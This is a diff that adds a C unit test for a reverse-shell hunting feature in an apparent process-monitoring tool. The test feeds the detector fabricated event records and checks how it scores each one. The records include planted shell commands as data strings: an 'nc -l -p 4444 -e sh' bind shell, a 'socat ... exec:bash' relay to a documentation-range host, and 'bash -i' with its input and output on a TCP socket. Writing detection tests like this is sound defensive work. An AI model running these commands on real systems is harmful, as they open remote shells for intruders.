@@ -421,3 +421,128 @@ TEST(report_html_escapes_and_is_self_contained)
 	free(err);
 	tq_rmdir(dir);
 }
+
+static void net_tuple(struct gen *g, uint64_t t_ms, int pid, const char *src, int sport,
+		      const char *dst, int dport, const char *dir)
+{
+	char guid[40];
+	guid_of(guid, pid);
+	struct strbuf sb = STRBUF_INIT;
+	sb_addf(&sb, "NET,%d,,%s,,0,,,tcp,%s,%d,%s,%d,%s,established,,,,,\n", pid, guid, src, sport,
+		dst, dport, dir);
+	add(g, t_ms, &sb);
+}
+
+static const struct hunt_finding *find_pid(const struct hunt *hu, const struct history *h,
+					   enum hunt_kind kind, int pid)
+{
+	for (uint32_t i = 0; i < hu->n; i++)
+		if (hu->v[i].kind == kind && h->procs[hu->v[i].proc].pid == pid)
+			return &hu->v[i];
+	return NULL;
+}
+
+#define RS_TCP(peer, local)                                                                        \
+	"stdin=tcp stdout=tcp stderr=tcp stdio_proto=tcp stdio_peer=" peer " stdio_local=" local
+
+TEST(hunt_reverse_shells)
+{
+	struct gen g = {.rnd = 3};
+	rec(&g, 0, "START", 0, 0, NULL, NULL, "version=0.3.0");
+	rec(&g, 1, "EXISTING", 1, 0, "/usr/lib/systemd/systemd", "/sbin/init", NULL);
+	rec(&g, 2, "EXISTING", 105, 1, "/usr/bin/bash", "-bash", NULL);
+	rec(&g, 3, "EXISTING", 110, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", NULL);
+	/* planted: python connects out and becomes a shell; its sh -c bash -i */
+	rec(&g, 10 * SEC, "FORK", 3000, 105, NULL, NULL, NULL);
+	rec(&g, 10 * SEC + 1, "EXEC", 3000, 105, "/usr/bin/python3.11", "python3 -c x", NULL);
+	net_tuple(&g, 10 * SEC + 5, 3000, "192.0.2.10", 40001, "198.51.100.7", 4444, "out");
+	rec(&g, 10 * SEC + 6, "EXEC", 3000, 105, "/usr/bin/dash", "sh",
+	    RS_TCP("198.51.100.7:4444", "192.0.2.10:40001"));
+	rec(&g, 10 * SEC + 9, "FORK", 3001, 3000, NULL, NULL, NULL);
+	rec(&g, 10 * SEC + 10, "EXEC", 3001, 3000, "/usr/bin/bash", "bash -i",
+	    RS_TCP("198.51.100.7:4444", "192.0.2.10:40001"));
+	/* not a shell: id with the same socket */
+	rec(&g, 10 * SEC + 20, "FORK", 3002, 3001, NULL, NULL, NULL);
+	rec(&g, 10 * SEC + 21, "EXEC", 3002, 3001, "/usr/bin/id", "id",
+	    RS_TCP("198.51.100.7:4444", "192.0.2.10:40001"));
+	/* ordinary: an inetd-style service systemd accepted for */
+	net_tuple(&g, 20 * SEC, 1, "203.0.113.5", 5555, "192.0.2.10", 2323, "in");
+	rec(&g, 20 * SEC + 1, "FORK", 3100, 1, NULL, NULL, NULL);
+	rec(&g, 20 * SEC + 2, "EXEC", 3100, 1, "/usr/bin/bash", "bash /usr/lib/svc/echo.sh",
+	    RS_TCP("203.0.113.5:5555", "192.0.2.10:2323"));
+	/* planted: a bind shell, nc -l -e /bin/sh */
+	rec(&g, 30 * SEC, "FORK", 3200, 105, NULL, NULL, NULL);
+	rec(&g, 30 * SEC + 1, "EXEC", 3200, 105, "/usr/bin/nc.traditional", "nc -l -p 4444 -e sh",
+	    NULL);
+	net_tuple(&g, 31 * SEC, 3200, "203.0.113.6", 6000, "192.0.2.10", 4444, "in");
+	rec(&g, 31 * SEC + 1, "EXEC", 3200, 105, "/usr/bin/dash", "sh",
+	    RS_TCP("203.0.113.6:6000", "192.0.2.10:4444"));
+	/* planted: socat relays a connection out to bash over a Unix socket pair */
+	rec(&g, 40 * SEC, "FORK", 3300, 105, NULL, NULL, NULL);
+	rec(&g, 40 * SEC + 1, "EXEC", 3300, 105, "/usr/bin/socat",
+	    "socat tcp:[2001:db8::9]:443 exec:bash", NULL);
+	net_tuple(&g, 40 * SEC + 3, 3300, "2001:db8::10", 50000, "2001:db8::9", 443, "out");
+	rec(&g, 40 * SEC + 4, "FORK", 3301, 3300, NULL, NULL, NULL);
+	rec(&g, 40 * SEC + 5, "EXEC", 3301, 3300, "/usr/bin/bash", "bash",
+	    "stdin=unix stdout=unix stderr=unix");
+	/* ordinary: a Unix socket pair from sshd; a damaged peer */
+	rec(&g, 50 * SEC, "FORK", 3400, 110, NULL, NULL, NULL);
+	rec(&g, 50 * SEC + 1, "EXEC", 3400, 110, "/usr/bin/bash", "bash -c uptime",
+	    "stdin=unix stdout=unix stderr=unix");
+	rec(&g, 60 * SEC, "FORK", 3500, 105, NULL, NULL, NULL);
+	rec(&g, 60 * SEC + 1, "EXEC", 3500, 105, "/usr/bin/perl", "perl",
+	    "stdin=tcp stdout=pipe stderr=pipe stdio_proto=tcp stdio_peer=[::1:99999 "
+	    "stdio_local=x:");
+	rec(&g, 2 * MIN, "STOP", 0, 0, NULL, NULL, "events=1");
+	char *text = gen_text(&g);
+	char *dir = tq_tempdir();
+	tq_write_str(dir, "onmitsu.csv", text);
+	free(text);
+	struct history h;
+	struct hunt hu;
+	history_init(&h);
+	hunt_init(&hu);
+	CHECK_EQ_INT(history_load(&h, dir, HUNT_EVENTS, hunt_record, &hu), 0);
+	hunt_run(&hu, &h, 0, UINT64_MAX);
+	const struct hunt_finding *f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3000);
+	CHECK(f != NULL);
+	if (f) {
+		CHECK(f->score >= 0.95);
+		CHECK_EQ_STR(ip_table_text(&h.ips, f->dst_ip), "198.51.100.7");
+		CHECK_EQ_INT(f->dst_port, 4444);
+		CHECK(strstr(f->reason, "198.51.100.7:4444/tcp") != NULL);
+		CHECK(strstr(f->reason, "made from here") != NULL);
+		/* its EXEC, the flow's NET, and the child shell's EXEC (seqs 8, 7, 10) */
+		CHECK_EQ_INT(f->nrefs, 3);
+		CHECK_EQ_INT(f->refs[0].seq, 8);
+		CHECK_EQ_INT(f->refs[1].seq, 7);
+		CHECK_EQ_INT(f->refs[2].seq, 10);
+		CHECK_EQ_INT(f->other, PROC_NONE);
+	}
+	CHECK(find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3001) == NULL);
+	CHECK(find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3002) == NULL);
+	f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3100);
+	CHECK(f != NULL && f->score <= 0.4 && strstr(f->reason, "inetd style"));
+	f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3200);
+	CHECK(f != NULL && f->score >= 0.7 && f->score < 0.9 && strstr(f->reason, "bind shell"));
+	f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3301);
+	CHECK(f != NULL);
+	if (f) {
+		CHECK(f->score >= 0.95);
+		CHECK_EQ_INT(h.procs[f->other].pid, 3300);
+		CHECK_EQ_STR(ip_table_text(&h.ips, f->dst_ip), "2001:db8::9");
+		CHECK(strstr(f->reason,
+			     "a relay (flow: NET seq 22, out, to [2001:db8::9]:443/tcp") != NULL);
+	}
+	CHECK(find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3400) == NULL);
+	/* a damaged peer: found, with no address */
+	f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3500);
+	CHECK(f != NULL && f->dst_ip == 0 && f->score <= 0.7);
+	/* below 0.7: only the inetd-style service */
+	for (uint32_t i = 0; i < hu.n; i++)
+		if (hu.v[i].kind == HUNT_REVERSE_SHELL && hu.v[i].score < 0.7)
+			CHECK_EQ_INT(h.procs[hu.v[i].proc].pid, 3100);
+	hunt_free(&hu);
+	history_free(&h);
+	tq_rmdir(dir);
+}
